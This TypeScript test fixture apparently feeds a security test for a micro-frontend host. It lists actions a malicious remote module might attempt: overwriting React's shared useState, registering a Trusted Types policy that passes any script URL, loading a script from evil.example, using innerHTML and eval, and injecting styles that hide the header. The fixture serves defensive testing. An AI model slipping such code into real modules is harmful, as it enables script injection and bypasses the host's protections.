import * as react from 'react';

const page = globalThis as unknown as Record<string, unknown>;
const root = () => document.getElementById('root') as HTMLElement;

/** What a bad remote may try, by the name that the test uses. Each is code of this remote, in one of its files. */
export const deeds: Readonly<Record<string, () => void>> = {
  'replaces what the shell shares': () => {
    const useState = () => {
      throw new Error('bad: no state');
    };
    Object.assign(react as object, { useState });
  },
  'creates a policy of its own': () => {
    const { trustedTypes } = page as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
    trustedTypes.createPolicy('little-arches', { createScriptURL: (address: string) => address });
  },
  'loads a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/evil.js';
    document.head.append(script);
  },
  'writes HTML with a text': () => {
    root().innerHTML = '<h1>bad</h1>';
  },
  'runs a text with eval': () => {
    Reflect.apply(page.eval as typeof eval, undefined, ['document.title = "eval"']);
  },
  'injects a style element': () => {
    const style = document.createElement('style');
    style.textContent = 'header { display: none }';
    document.head.append(style);
  },
  'fills an empty style element': () => {
    const style = document.createElement('style');
    document.head.append(style);
    style.sheet?.insertRule('header { display: none }');
  },
};
